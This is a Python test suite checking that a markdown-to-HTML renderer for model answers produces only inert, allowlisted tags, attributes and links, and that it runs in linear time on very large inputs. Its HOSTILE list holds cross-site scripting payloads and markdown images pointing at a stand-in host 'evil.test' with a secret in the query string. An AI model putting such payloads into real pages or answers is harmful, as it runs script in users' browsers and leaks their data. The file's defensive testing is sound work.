"""Answers as HTML: what is drawn, and that nothing in them does anything."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lbgpt_pandas.drawing.prose import code_html, markdown_html

OURS = {
    "a", "br", "code", "div", "em", "p", "pre", "span", "strong", "table", "tbody", "td", "th", "tr",
}  # fmt: skip
ATTRIBUTES = {"style", "href", "title", "target", "rel"}

HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "![x](https://evil.test/a.png?q=secret)",
    "![x][1]\n\n[1]: https://evil.test/a.png",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    '[x](https://a.test/"onmouseover="alert(1))',
    "`<img src=x>` **<b>** *<i>* <!-- --> <![CDATA[",
    "```html\n<script>alert(1)</script>\n```",
    "- a\n  ```\n  b\nc <img src=x onerror=alert(1)>",
    '[a]: b "\n```\n" \n<img src=x onerror=alert(1)>',
    "| a |\n| --- |\n| <img src=x> |",
    "> <svg onload=alert(1)>",
    "# <style>*{display:none}</style>",
    "$\\href{javascript:alert(1)}{x}$ \\(x\\) \\begin{equation}",
    "&lt;img&gt; &#60;img src=x&#62;",
    "**`</code><script>`**",
    "[`<b>`](https://a.test/)",
]


class Audit(HTMLParser):
    """Collects what a browser would see."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.text = [], [], ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.tags.append(tag)
        self.attributes += attributes

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        raise AssertionError(data)

    handle_decl = unknown_decl = handle_pi = handle_comment


def check_inert(html):
    audit = Audit(html)
    assert set(audit.tags) <= OURS
    assert {name for name, _ in audit.attributes} <= ATTRIBUTES
    for name, value in audit.attributes:
        if name == "href":
            assert re.match(r"https?://", value)
        if name == "style":
            assert "url(" not in value
    return audit


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_answers_are_text(text):
    check_inert(markdown_html(text))
    assert Audit(code_html(text)).tags == ["pre"] + ["span"] * (text.count("\\") + text.count("$"))


@given(
    st.lists(
        st.sampled_from(
            ["<", ">", "`", "```", "*", "**", "[", "](", ")", "https://a.b/", "javascript:", "|",
             "---", "#", "- ", "> ", "\n", '"', "'", "$", "\\", "!", "&", "x", " ", "<img src=x>"]
        ),
        max_size=40,
    )
)  # fmt: skip
def test_no_mixture_of_marks_makes_another_tag(parts):
    check_inert(markdown_html("".join(parts)))


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("# Title #", 'font-size:1.5em;margin:10px 0 4px">Title</div>'),
        ("**a *b* c**", "<strong>a <em>b</em> c</strong>"),
        ("2 * 3 * 4 and snake_case_name", "2 * 3 * 4 and snake_case_name"),
        ("a\nb", "a<br>b"),
        ("- one", "• one</div>"),
        ("3. three", "3. three</div>"),
        ("`a**b**`", ">a**b**</code>"),
        ("a ` b", "a ` b"),
        ("[x](https://a.test/?a=1&b=2)", 'href="https://a.test/?a=1&amp;b=2"'),
        ("> said", "said</div>"),
        ("---", "border-top"),
        ("```python\nif a <b:\n\tpass\n```", ">if a &lt;b:\n    pass</pre>"),
        ("~~~\n```\n~~~", ">```</pre>"),
        ("```\nopen", ">open</pre>"),
    ],
)
def test_marks_that_are_drawn(text, html):
    assert html in markdown_html(text)


def test_a_table_is_drawn():
    audit = Audit(markdown_html("| a | b |\n|---|:-:|\n| 1 | **2** |\nafter"))
    assert audit.tags.count("th") == audit.tags.count("td") == 2
    assert "after" in audit.text


def test_the_text_of_code_is_exact():
    code = "if a < b && c:\n  print('<b>')  # \\n $x$"
    assert Audit(code_html(code)).text == code


@pytest.mark.parametrize(
    "text",
    [
        "**a " * 20_000,
        "*a" * 20_000,
        "[" * 40_000,
        "[x](https://a" * 5_000,
        "`" * 40_000,
        "| " * 20_000,
        "# " + " " * 40_000 + "x",
        "- " * 20_000,
        ">" * 40_000,
        "\\$" * 20_000,
        "- a\n" * 10_000,
    ],
)
def test_long_and_odd_answers_are_drawn_in_linear_time(text):
    began = time.thread_time()
    check = markdown_html(text)
    assert time.thread_time() - began < 1
    assert len(check) < 60 * len(text) + 1_000
